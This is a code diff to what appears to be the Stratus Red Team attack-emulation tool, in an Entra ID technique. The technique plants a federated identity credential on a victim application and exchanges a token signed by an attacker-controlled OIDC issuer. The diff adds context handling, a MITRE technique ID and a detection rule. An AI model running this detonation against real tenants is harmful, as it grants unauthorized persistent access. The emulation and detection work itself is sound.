@@ -21,6 +21,7 @@ import (
 	"github.com/google/uuid"
 
 	"github.com/datadog/stratus-red-team/v2/internal/providers"
+	"github.com/datadog/stratus-red-team/v2/internal/utils"
 	"github.com/datadog/stratus-red-team/v2/pkg/stratus"
 	"github.com/datadog/stratus-red-team/v2/pkg/stratus/mitreattack"
 	graphmodels "github.com/microsoftgraph/msgraph-sdk-go/models"
@@ -125,16 +126,23 @@ Sample Entra ID audit log event to monitor:
 }
 ` + codeBlock + `
 `,
-		Platform:                   stratus.EntraID,
-		IsIdempotent:               false,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		Platform:              stratus.EntraID,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		MitreAttackTechniques: []string{"T1098.001"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"properties.message": {"Update application"}, "properties.targetResources.modifiedProperties.displayName": {"FederatedIdentityCredentials"}},
+			},
+			FalsePositives: []string{"Workload identity federation set up for CI/CD pipelines"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	victimObjectId := params["object_id"]
 	victimAppId := params["app_id"]
 	storageAccountName := params["storage_account_name"]
@@ -161,7 +169,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 
 	// Upload OIDC discovery document and JWKS to the storage account
 	log.Printf("Uploading OIDC metadata to %s...", issuerURL)
-	if err := uploadOIDCDocuments(azureProvider, blobServiceURL, issuerURL, privateKey, keyID); err != nil {
+	if err := uploadOIDCDocuments(ctx, azureProvider, blobServiceURL, issuerURL, privateKey, keyID); err != nil {
 		return fmt.Errorf("could not upload OIDC documents: %w", err)
 	}
 
@@ -180,7 +188,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	requestBody.SetDescription(&ficDescription)
 	requestBody.SetAudiences(ficAudiences)
 
-	fic, err := graphClient.Applications().ByApplicationId(victimObjectId).FederatedIdentityCredentials().Post(context.Background(), requestBody, nil)
+	fic, err := graphClient.Applications().ByApplicationId(victimObjectId).FederatedIdentityCredentials().Post(ctx, requestBody, nil)
 	if err != nil {
 		return fmt.Errorf("could not create FIC: %w", err)
 	}
@@ -188,7 +196,9 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 
 	// Wait for FIC and OIDC metadata to propagate
 	log.Printf("Waiting %s for FIC and OIDC metadata to propagate...", ficWaitTime)
-	time.Sleep(ficWaitTime)
+	if err := utils.SleepWithContext(ctx, ficWaitTime); err != nil {
+		return err
+	}
 
 	// Issue token signed by the attacker's OIDC private key
 	log.Println("Issuing token as attacker OIDC provider for exchange...")
@@ -214,7 +224,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	victimObjectId := params["object_id"]
 	blobServiceURL := params["blob_service_url"]
 	graphClient := providers.EntraId().GetGraphClient()
@@ -222,7 +232,7 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 
 	// Remove FICs from the victim application
 	log.Println("Listing FICs for application " + victimObjectId)
-	fics, err := graphClient.Applications().ByApplicationId(victimObjectId).FederatedIdentityCredentials().Get(context.Background(), nil)
+	fics, err := graphClient.Applications().ByApplicationId(victimObjectId).FederatedIdentityCredentials().Get(ctx, nil)
 	if err != nil {
 		return errors.New("could not retrieve FICs: " + err.Error())
 	}
@@ -233,7 +243,7 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 			continue
 		}
 		log.Println("Deleting FIC with ID " + *ficId)
-		err := graphClient.Applications().ByApplicationId(victimObjectId).FederatedIdentityCredentials().ByFederatedIdentityCredentialId(*ficId).Delete(context.Background(), nil)
+		err := graphClient.Applications().ByApplicationId(victimObjectId).FederatedIdentityCredentials().ByFederatedIdentityCredentialId(*ficId).Delete(ctx, nil)
 		if err != nil {
 			return errors.New("could not delete FIC: " + err.Error())
 		}
@@ -246,7 +256,7 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 
 	// Delete the OIDC container (storage account is managed by Terraform)
 	log.Printf("Deleting OIDC container from storage account...")
-	if err := deleteOIDCContainer(azureProvider, blobServiceURL); err != nil {
+	if err := deleteOIDCContainer(ctx, azureProvider, blobServiceURL); err != nil {
 		log.Printf("Warning: could not delete OIDC container: %v", err)
 	} else {
 		log.Println("Deleted OIDC container")
@@ -256,8 +266,7 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 }
 
 // deleteOIDCContainer deletes the OIDC container from the storage account.
-func deleteOIDCContainer(azureProvider *providers.AzureProvider, blobServiceURL string) error {
-	ctx := context.Background()
+func deleteOIDCContainer(ctx context.Context, azureProvider *providers.AzureProvider, blobServiceURL string) error {
 	blobClient, err := azblob.NewClient(blobServiceURL, azureProvider.GetCredentials(), nil)
 	if err != nil {
 		return fmt.Errorf("could not create blob client: %w", err)
@@ -267,8 +276,7 @@ func deleteOIDCContainer(azureProvider *providers.AzureProvider, blobServiceURL
 }
 
 // uploadOIDCDocuments creates the OIDC container and uploads the discovery document and JWKS.
-func uploadOIDCDocuments(azureProvider *providers.AzureProvider, blobServiceURL, issuerURL string, privateKey *rsa.PrivateKey, keyID string) error {
-	ctx := context.Background()
+func uploadOIDCDocuments(ctx context.Context, azureProvider *providers.AzureProvider, blobServiceURL, issuerURL string, privateKey *rsa.PrivateKey, keyID string) error {
 	blobClient, err := azblob.NewClient(blobServiceURL, azureProvider.GetCredentials(), nil)
 	if err != nil {
 		return fmt.Errorf("could not create blob client: %w", err)